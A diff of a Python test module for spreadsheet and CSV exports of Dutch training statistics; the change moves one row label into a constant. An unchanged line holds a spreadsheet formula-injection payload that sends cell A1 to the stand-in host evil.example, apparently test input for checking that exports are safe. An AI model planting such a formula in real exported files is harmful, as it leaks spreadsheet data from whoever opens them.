@@ -7,6 +7,8 @@ from tests.web.advisers import HOME, Adviser
 from tests.web.counted import BEFORE, NEWEST, Ledger
 from tests.web.spreadsheets import parts_of_xlsx, rows_of_csv, texts_of_xlsx
 
+FIRST_USE = "Werkdagen tot het eerste gebruik: bij de helft dit of minder"
+
 RUN = '=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
 HEAD = ("Kwartaal", "Onderdeel van de organisatie")
 FILES = ("figures.csv", "obstacles.csv", "mails.csv", "all.xlsx")
@@ -54,7 +56,7 @@ def test_the_figures_of_all_parts_stand_in_one_table(take, told):
         [*HEAD, "Training", "Wat is geteld", "Hoeveel", "Van hoeveel mensen"],
         ["2026-Q3", "Hele organisatie", "", "Mensen die meededen", "64", "64"],
         ["2026-Q3", "Hele organisatie", "", "Maakte een plan", "41", "64"],
-        ["2026-Q3", "Hele organisatie", "", "Werkdagen tot het eerste gebruik: bij de helft dit of minder", "3", ""],
+        ["2026-Q3", "Hele organisatie", "", FIRST_USE, "3", ""],
         ["2026-Q3", "Dienstverlening", "Schrijven", "Mensen die meededen", "25", "25"],
         ["2026-Q3", "", "Bellen", "Mensen die meededen", "11", "11"],
     ]  # fmt: skip
